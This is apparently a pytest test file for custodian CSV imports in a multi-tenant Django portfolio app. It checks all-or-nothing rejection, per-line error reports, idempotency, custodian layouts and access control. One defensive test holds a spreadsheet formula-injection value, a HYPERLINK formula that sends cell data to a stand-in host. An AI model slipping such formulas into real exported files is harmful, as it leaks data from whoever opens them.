"""Custodian file imports: all or nothing, every bad line reported, idempotent, per firm."""

from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import transaction
from django_tenants.utils import schema_context

from apps.access.models import AuditEvent
from apps.access.roles import Role
from apps.accounts.models import Account, Household, RealizedGain, TaxLot, Transaction
from apps.accounts.services.imports import custodian_file_import
from apps.accounts.services.ledger import ledger_rebuild
from apps.ingest.problems import FileRejectedError
from apps.securities.models import Security
from tests.conftest import login_client

DATA = Path(__file__).resolve().parents[2] / "data" / "custodian"

# The upload page is wired by the lead in config/urls_tenants.py; these tests mount it here.
PLAIN_TRANSACTIONS = """\
account_number,custodian,external_id,trade_date,kind,symbol,shares,amount,lot_method,lot_ids
111,schwab,d1,2023-01-03,deposit,,,10000.00,,
111,schwab,b1,2023-01-05,buy,MSFT,20,4800.00,,
111,schwab,s1,2023-06-01,sell,MSFT,5,1500.00,,
111,schwab,div1,2023-06-15,dividend,MSFT,,13.60,,
111,schwab,b2,2023-07-03,buy,MSFT,10,3400.00,,
111,schwab,s2,2023-07-03,sell,MSFT,8,2700.00,,
111,schwab,fee1,2023-09-30,fee,,,25.00,,
"""


@pytest.fixture
def books(firm_a):
    for symbol in ("AAPL", "MSFT", "KO", "IBM"):
        Security.objects.get_or_create(symbol=symbol, defaults={"name": f"{symbol} Inc"})
    household = Household.objects.create(external_id="H1", name="Smith family")
    joint = Account.objects.create(
        household=household, custodian="schwab", number="111", name="Joint", registration="taxable"
    )
    ira = Account.objects.create(
        household=household,
        custodian="schwab",
        number="222",
        name="IRA",
        registration="traditional_ira",
    )
    fidelity = Account.objects.create(
        household=household,
        custodian="fidelity",
        number="111",
        name="Fidelity joint",
        registration="taxable",
    )
    return {"household": household, "joint": joint, "ira": ira, "fidelity": fidelity}


def _import(text, kind="transactions", layout="generic", *, user=None, **kwargs):
    content = text if isinstance(text, bytes) else text.encode()
    return custodian_file_import(
        kind=kind, layout=layout, content=content, filename="f.csv", acting_user=user, **kwargs
    )


def _rejected(text, kind="transactions", layout="generic", **kwargs):
    with pytest.raises(FileRejectedError) as caught:
        _import(text, kind, layout, **kwargs)
    return caught.value.report


def _counts():
    return (Transaction.objects.count(), TaxLot.objects.count(), RealizedGain.objects.count())


def _ledger_picture(account):
    """Lots, realized gains and cash of an account, without ids (to compare layouts)."""
    account.refresh_from_db()
    lots = sorted(
        (lot.symbol, lot.shares, lot.adjusted_basis_amount, lot.acquired_on)
        for lot in TaxLot.objects.filter(account=account)
    )
    gains = sorted(
        (g.symbol, g.shares, g.proceeds_amount, g.basis_amount, g.term, g.sold_on)
        for g in RealizedGain.objects.filter(account=account)
    )
    entries = sorted(
        (t.kind, t.trade_on, t.symbol, t.shares, t.amount, t.sequence)
        for t in Transaction.objects.filter(account=account)
    )
    return lots, gains, account.cash_amount, entries


def _picture_after(text, kind, layout, account):
    with transaction.atomic():
        _import(text, kind, layout)
        picture = _ledger_picture(account)
        transaction.set_rollback(True)
    return picture


def test_generic_lots_create_opening_lots(books):
    report = _import((DATA / "generic_lots.csv").read_bytes(), "lots")

    assert (report.created, report.unchanged, report.is_applied) == (3, 0, True)
    l2 = TaxLot.objects.get(lot_key="lot:L2")
    assert l2.holding_period_start_on == date(2022, 2, 1)
    assert l2.wash_adjustment_amount == Decimal("25.00")
    assert l2.adjusted_basis_amount == Decimal("925.00")
    ko = TaxLot.objects.get(symbol="KO")
    assert not ko.has_basis
    assert Transaction.objects.get(external_id="lot:L3").is_basis_unknown
    assert all(t.is_opening_lot for t in Transaction.objects.all())
    books["joint"].refresh_from_db()
    assert books["joint"].cash_amount == Decimal("0.00")  # opening lots move no cash
    event = AuditEvent.objects.get(action="custodian_import.apply")
    assert event.payload["created"] == 3
    assert event.payload["kind"] == "lots"
    assert len(event.payload["sha256"]) == 64


def test_generic_transactions_book_lots_gains_and_cash(books):
    report = _import((DATA / "generic_transactions.csv").read_bytes())

    assert (report.created, report.households) == (7, ("H1",))
    joint = books["joint"]
    lots, gains, cash, _ = _ledger_picture(joint)
    assert lots == [
        ("MSFT", Decimal("7"), Decimal("1680.00"), date(2023, 1, 5)),
        ("MSFT", Decimal("10"), Decimal("3400.00"), date(2023, 7, 3)),
    ]
    assert [(g[1], g[2] - g[3], g[4]) for g in gains] == [
        (Decimal("5"), Decimal("300.00"), "short"),
        (Decimal("8"), Decimal("780.00"), "short"),
    ]
    assert cash == Decimal("5988.60")
    # Same-date rows keep the file's order: the buy b2 before the sell s2.
    b2, s2 = (Transaction.objects.get(external_id=x) for x in ("b2", "s2"))
    assert b2.sequence < s2.sequence
    assert s2.lot_picks == [{"lot_id": "b1", "shares": "8"}]
    # The stored rows are exactly what a fresh rebuild derives.
    before = sorted(TaxLot.objects.values_list("lot_key", "shares", "adjusted_basis_amount"))
    ledger_rebuild(household=books["household"])
    after = sorted(TaxLot.objects.values_list("lot_key", "shares", "adjusted_basis_amount"))
    assert before == after


def test_reimport_changes_nothing(books):
    content = (DATA / "generic_transactions.csv").read_bytes()
    _import(content)
    counts = _counts()

    again = _import(content)

    assert (again.created, again.updated, again.unchanged) == (0, 0, 7)
    assert _counts() == counts
    assert AuditEvent.objects.filter(action="custodian_import.apply").count() == 1
    assert AuditEvent.objects.filter(action="custodian_import.noop").count() == 1


def test_bad_rows_reject_the_whole_file_and_every_line_is_reported(books):
    _import((DATA / "generic_lots.csv").read_bytes(), "lots")
    counts = _counts()
    text = """\
account_number,custodian,external_id,trade_date,kind,symbol,shares,amount,lot_method,lot_ids
111,schwab,ok1,2023-01-05,buy,AAPL,1,150.00,,
999,schwab,x1,2023-01-05,buy,AAPL,1,150.00,,
111,schwab,x2,2023-01-05,buy,ZZZZ,1,150.00,,
111,schwab,x3,2023-02-30,buy,AAPL,1,150.00,,
111,schwab,x4,2023-01-05,buy,AAPL,1O,150.00,,
111,schwab,x5,2023-01-05,buy,AAPL,-3,150.00,,
111,schwab,x6,2023-01-05,transfer,,,150.00,,
111,schwab,ok1,2023-01-05,buy,AAPL,2,300.00,,
111,schwab,x7,2023-01-05,sell,AAPL,1,1.001,,
111,schwab,x8,2023-01-05
"""
    report = _rejected(text)

    by_line = {p.line: (p.field, p.reason) for p in report.problems}
    assert by_line[3] == ("account_number", "unknown account schwab 999")
    assert by_line[4] == ("symbol", "unknown symbol ZZZZ")
    assert by_line[5][0] == "trade_date"
    assert by_line[6][0] == "shares"
    assert "not a number" in by_line[6][1]
    assert by_line[7] == ("shares", "must be > 0, got -3")
    assert by_line[8][0] == "kind"
    assert by_line[9][0] == "external_id"
    assert "repeats line 2" in by_line[9][1]
    assert "decimal places" in by_line[10][1]
    assert by_line[11][0] == "row"
    assert 2 not in by_line
    assert _counts() == counts
    assert not AuditEvent.objects.filter(action__startswith="custodian_import").exclude(
        payload__kind="lots"
    )


def test_oversell_is_reported_on_its_line(books):
    _import((DATA / "generic_lots.csv").read_bytes(), "lots")
    counts = _counts()
    text = """\
account_number,custodian,external_id,trade_date,kind,symbol,shares,amount,lot_method,lot_ids
111,schwab,s1,2023-03-01,sell,AAPL,10,1700.00,,
111,schwab,s2,2023-03-02,sell,AAPL,6,1000.00,,
111,schwab,s3,2023-03-03,sell,KO,1,60.00,,lot:L9:1
"""
    report = _rejected(text, "transactions")

    assert [(p.line, p.field) for p in report.problems] == [(3, "shares"), (4, "lot_ids")]
    assert "sells 6 shares of AAPL in account 111 but only 5 are held" in report.problems[0].reason
    assert "unknown lot 'lot:L9'" in report.problems[1].reason
    assert _counts() == counts


def test_external_id_already_imported_with_other_content_is_an_error(books):
    content = (DATA / "generic_transactions.csv").read_text()
    _import(content)
    report = _rejected(content.replace("deposit,,,10000.00", "deposit,,,9000.00"))

    assert [(p.line, p.field) for p in report.problems] == [(2, "external_id")]
    assert "d1 was imported before with a different amount" in report.problems[0].reason


@pytest.mark.parametrize(
    ("layout", "filename", "account"),
    [
        ("schwab", "schwab_transactions.csv", "joint"),
        ("fidelity", "fidelity_transactions.csv", "fidelity"),
    ],
)
def test_custodian_layouts_match_the_generic_file(books, layout, filename, account):
    custodian = "schwab" if layout == "schwab" else "fidelity"
    generic = PLAIN_TRANSACTIONS.replace(",schwab,", f",{custodian},")
    expected = _picture_after(generic, "transactions", "generic", books[account])
    content = (DATA / filename).read_bytes()

    got = _picture_after(content, "transactions", layout, books[account])

    assert got == expected
    assert got[2] == Decimal("5988.60")
    report = _import(content, "transactions", layout)
    assert report.created == 7
    assert report.skipped == (
        1 if layout == "schwab" else 3
    )  # totals / money-market sweep + footer
    assert _import(content, "transactions", layout).unchanged == 7


def test_lots_layouts_match_the_generic_file(books):
    generic = """\
account_number,custodian,lot_id,symbol,shares,cost_basis,acquired_date
111,schwab,a,AAPL,20,1451.20,2020-09-24
111,schwab,b,AAPL,10,713.50,2020-08-24
111,schwab,c,KO,5,,2019-01-02
"""
    schwab = (
        '"Lot Details as of 02:45 AM ET, 09/25/2020"\n\n'
        '"Account Number","Symbol","Open Date","Quantity","Price","Cost/Share","Market Value",'
        '"Cost Basis","Gain/Loss $","Gain/Loss %","Holding Period",\n'
        '"111","AAPL","09/24/2020 13:42:07","20","$72.56","$72.56","$1451.20","$1,451.20",'
        '"$0.00","+0.05%","Short Term",\n'
        '"111","AAPL","08/24/2020 13:42:07","10","$72.56","$71.35","$725.60","$713.50",'
        '"$12.10","+1.69%","Short Term",\n'
        '"111","KO","01/02/2019","5","$60.00","--","$300.00","--","--","--","Long Term",\n'
        '"Total","","","35","--","--","$2476.80","$2164.70","--","--","--",\n'
    )
    fidelity = (
        "Account Number,Symbol,Date Acquired,Quantity,Cost Basis,Term\n"
        '111,AAPL,09/24/2020,20,"$1,451.20",Short\n'
        "111,AAPL,08/24/2020,10,$713.50,Short\n"
        "111,KO,01/02/2019,5,--,Long\n"
    )
    expected = _picture_after(generic, "lots", "generic", books["joint"])
    assert _picture_after(schwab, "lots", "schwab", books["joint"]) == expected
    expected_fid = _picture_after(
        generic.replace(",schwab,", ",fidelity,"), "lots", "generic", books["fidelity"]
    )
    assert _picture_after(fidelity, "lots", "fidelity", books["fidelity"]) == expected_fid
    assert not TaxLot.objects.exists()


def test_positions_create_opening_lots_set_cash_and_report_mismatches(books):
    _import((DATA / "generic_lots.csv").read_bytes(), "lots")  # AAPL 15, KO 20
    text = """\
account_number,custodian,symbol,shares,cost_basis
111,schwab,AAPL,15,
111,schwab,KO,20,
111,schwab,IBM,50,4000.00
111,schwab,CASH,500.25,
222,schwab,MSFT,3,
"""
    report = _import(text, "positions", as_of=date(2024, 3, 1))

    assert (report.created, report.unchanged) == (3, 2)
    ibm = Transaction.objects.get(external_id="pos:IBM:2024-03-01")
    assert (ibm.is_opening_lot, ibm.is_basis_unknown, ibm.amount) == (
        True,
        False,
        Decimal("4000.00"),
    )
    msft = Transaction.objects.get(account=books["ira"], symbol="MSFT")
    assert msft.is_basis_unknown
    assert not TaxLot.objects.get(account=books["ira"]).has_basis
    adjustment = Transaction.objects.get(external_id="cash-adj:2024-03-01")
    assert (adjustment.kind, adjustment.amount) == ("deposit", Decimal("500.25"))
    books["joint"].refresh_from_db()
    assert books["joint"].cash_amount == Decimal("500.25")
    # The same snapshot again: everything reconciles.
    assert _import(text, "positions", as_of=date(2024, 3, 1)).unchanged == 5

    counts = _counts()
    drifted = text.replace("AAPL,15", "AAPL,14").replace("111,schwab,IBM,50,4000.00\n", "")
    report = _rejected(drifted, "positions", as_of=date(2024, 3, 2))
    assert [(p.line, p.field, p.reason) for p in report.problems] == [
        (2, "shares", "AAPL: custodian says 14, books say 15"),
        (2, "symbol", "IBM: books say 50, the custodian's file lists none for account 111"),
    ]
    assert _counts() == counts


def test_custodian_positions_layouts(books):
    schwab = (
        '"Positions for account Joint XXXX-0111 as of 02:45 AM ET, 09/25/2020"\n\n'
        '"Account Number","Symbol","Description","Quantity","Price","Market Value","Cost Basis",'
        '"Security Type",\n'
        '"111","IBM","IBM CORP","50","$120.00","$6,000.00","$4,000.00","Equity",\n'
        '"111","Cash & Cash Investments","--","--","--","$500.25","--","Cash and Money Market",\n'
        '"Account Total","--","--","--","--","$6,500.25","$4,000.00","--",\n'
    )
    report = _import(schwab, "positions", "schwab")
    assert report.created == 2
    assert Transaction.objects.get(symbol="IBM").trade_on == date(2020, 9, 25)
    fidelity = (
        "Account Number,Account Name,Symbol,Description,Quantity,Last Price,Current Value,"
        "Cost Basis Total,Average Cost Basis,Type\n"
        "111,Fidelity joint,SPAXX**,HELD IN MONEY MARKET,,,$75.10,,,Cash\n"
        '111,Fidelity joint,KO,COCA COLA,20,$60.00,"$1,200.00",--,--,Cash\n'
        "111,Fidelity joint,Pending activity,,,,-$5.00,,,\n"
        "\n"
        '"Brokerage services are provided by Fidelity Brokerage Services LLC (FBS)."\n'
        '"Date downloaded Apr-22-2024 9:29 p.m ET"\n'
    )
    report = _import(fidelity, "positions", "fidelity")
    assert (report.created, report.skipped) == (2, 3)
    ko = Transaction.objects.get(account=books["fidelity"], symbol="KO")
    assert (ko.trade_on, ko.is_basis_unknown) == (date(2024, 4, 22), True)
    books["fidelity"].refresh_from_db()
    assert books["fidelity"].cash_amount == Decimal("75.10")


def test_accounts_file_creates_then_is_unchanged_then_updates_profiles(firm_a):
    text = """\
household_id,household_name,account_number,custodian,name,registration,short_term_rate,is_harvesting_enabled
H7,Jones family,7001,schwab,Jones joint,taxable,0.35,yes
H7,Jones family,7002,schwab,Jones IRA,roth_ira,,no
"""
    report = _import(text, "accounts")
    assert report.created == 3  # one household, two accounts
    joint = Account.objects.get(number="7001")
    assert (joint.household.name, joint.short_term_rate) == ("Jones family", Decimal("0.35"))
    assert Account.objects.get(number="7002").short_term_rate == Decimal("0.37")  # default

    assert _import(text, "accounts").unchanged == 2

    updated = _import(text.replace("0.35,yes", "0.32,yes"), "accounts")
    assert (updated.updated, updated.unchanged) == (1, 1)
    joint.refresh_from_db()
    assert joint.short_term_rate == Decimal("0.32")

    bad = text.replace("taxable,0.35", "roth_ira,1.5").replace("Jones IRA", "Jones IRA,extra")
    report = _rejected(bad, "accounts")
    assert {p.line for p in report.problems} == {2, 3}


@pytest.mark.parametrize(
    ("content", "line", "reason"),
    [
        ("account_number,custodian\n111,sch\xe9ma\n".encode("latin-1"), 2, "is not UTF-8"),
        ("account_number\n".encode("utf-16"), 0, "UTF-16"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00IHDR", 0, "binary"),
        (b"", 1, "empty"),
    ],
)
def test_other_encodings_and_binary_files_are_refused(books, content, line, reason):
    report = _rejected(content)
    assert len(report.problems) == 1
    assert report.problems[0].line == line
    assert reason in report.problems[0].reason


def test_bom_and_crlf_are_accepted(books):
    content = b"\xef\xbb\xbf" + PLAIN_TRANSACTIONS.replace("\n", "\r\n").encode()
    assert _import(content).created == 7


def test_command_dry_run_writes_nothing_and_failures_exit_non_zero(books, capsys, tmp_path):
    counts = _counts()
    call_command(
        "import_custodian",
        "--firm",
        "firm_a",
        "--kind",
        "transactions",
        "--dry-run",
        str(DATA / "generic_transactions.csv"),
    )
    out = capsys.readouterr().out
    assert "created 7" in out
    assert "dry run" in out
    assert _counts() == counts

    bad = tmp_path / "bad.csv"
    bad.write_text(PLAIN_TRANSACTIONS.replace("b1,2023-01-05", "b1,2023-13-05"))
    with pytest.raises(SystemExit) as caught:
        call_command("import_custodian", "--firm", "firm_a", "--kind", "transactions", str(bad))
    assert caught.value.code == 2
    assert "line 3: trade_date:" in capsys.readouterr().err
    assert _counts() == counts


def test_upload_page_for_a_trader_and_not_for_a_viewer(books, firms):
    upload = SimpleUploadedFile("tx.csv", PLAIN_TRANSACTIONS.encode(), content_type="text/csv")
    trader = login_client(firms["a"], Role.TRADER)

    response = trader.post(
        "/imports/", {"kind": "transactions", "layout": "generic", "file": upload}
    )

    assert response.status_code == 200
    assert b"Imported: created" in response.content
    with schema_context(firms["a"].schema):
        assert Transaction.objects.count() == 7
        assert AuditEvent.objects.get(action="custodian_import.apply").acting_username == (
            firms["a"].users[Role.TRADER].username
        )
    viewer = login_client(firms["a"], Role.VIEWER)
    assert viewer.get("/imports/").status_code == 403
    upload.seek(0)
    assert viewer.post("/imports/", {"kind": "transactions", "file": upload}).status_code == 403


def test_upload_page_lists_every_problem(books, firms):
    upload = SimpleUploadedFile(
        "tx.csv", PLAIN_TRANSACTIONS.replace(",MSFT,", ",ZZZZ,").encode(), content_type="text/csv"
    )
    response = login_client(firms["a"], Role.TRADER).post(
        "/imports/", {"kind": "transactions", "layout": "generic", "file": upload}
    )
    assert response.status_code == 400
    assert b"Nothing was imported" in response.content
    assert response.content.count(b"unknown symbol ZZZZ") == 5


def test_a_firm_a_file_on_firm_b_host_finds_no_accounts(books, firms):
    with schema_context(firms["b"].schema):
        b_before = Transaction.objects.count()
    upload = SimpleUploadedFile("tx.csv", PLAIN_TRANSACTIONS.encode(), content_type="text/csv")

    response = login_client(firms["b"], Role.TRADER).post(
        "/imports/", {"kind": "transactions", "layout": "generic", "file": upload}
    )

    assert response.status_code == 400
    assert response.content.count(b"unknown account schwab 111") == 7
    with schema_context(firms["b"].schema):
        assert Transaction.objects.count() == b_before
        assert not AuditEvent.objects.filter(action__startswith="custodian_import")
    with schema_context(firms["a"].schema):
        assert Transaction.objects.count() == 0


@pytest.mark.parametrize(("threshold", "refreshed"), [(7, True), (8, False)])
def test_a_large_import_refreshes_the_ledgers_planner_statistics(
    books, monkeypatch, threshold, refreshed
):
    """From ``STATISTICS_AFTER_ROWS`` ledger rows (7 here) the import ANALYZEs the ledger's
    tables before it commits, so a book run started right after plans with the new sizes."""
    from django.db import connection

    from apps.accounts.services import imports

    monkeypatch.setattr(imports, "STATISTICS_AFTER_ROWS", threshold)

    def reltuples(table):
        with connection.cursor() as cursor:
            cursor.execute("SELECT reltuples FROM pg_class WHERE oid = %s::regclass", [table])
            return cursor.fetchone()[0]

    before = reltuples("accounts_transaction")
    _import(PLAIN_TRANSACTIONS)
    assert Transaction.objects.count() == 7
    if refreshed:
        assert reltuples("accounts_transaction") == 7
        assert reltuples("accounts_taxlot") == TaxLot.objects.count() > 0
    else:
        assert reltuples("accounts_transaction") == before


def test_formula_leading_identifiers_are_refused_with_their_line(books):
    hyperlink = '=HYPERLINK("http://x.test/?"&A1)'
    quoted = '"' + hyperlink.replace('"', '""') + '"'
    text = (
        "account_number,custodian,external_id,trade_date,kind,symbol,shares,amount,"
        "lot_method,lot_ids\n"
        "111,schwab,ok1,2023-01-05,buy,AAPL,1,150.00,,\n"
        f"{quoted},schwab,x1,2023-01-05,buy,AAPL,1,150.00,,\n"
        "111,schwab,@x2,2023-01-05,buy,AAPL,1,150.00,,\n"
        "111,schwab,x3,2023-01-06,sell,AAPL,1,150.00,,-ok1:1\n"
    )
    counts = _counts()
    report = _rejected(text)
    by_line = {p.line: (p.field, p.reason) for p in report.problems}
    assert by_line[3][0] == "account_number"
    assert "starts with '='" in by_line[3][1]
    assert "spreadsheets read them as formulas" in by_line[3][1]
    assert by_line[4][0] == "external_id"
    assert "starts with '@'" in by_line[4][1]
    assert by_line[5][0] == "lot_ids"
    assert "starts with '-'" in by_line[5][1]
    assert 2 not in by_line
    assert _counts() == counts


def test_formula_leading_identifiers_are_refused_by_model_validation_and_the_api(books, firms):
    from django.core.exceptions import ValidationError

    from tests.conftest import api_client

    account = books["joint"]
    account.number = "+1-555"
    with pytest.raises(ValidationError) as caught:
        account.full_clean()
    assert "number" in caught.value.message_dict
    client = api_client(firms["a"], Role.FIRM_ADMIN)
    response = client.post("/api/v1/models/", {"code": "@CORE", "name": "Core"}, format="json")
    assert response.status_code == 400, response.content
    assert "spreadsheets read them as formulas" in response.content.decode()
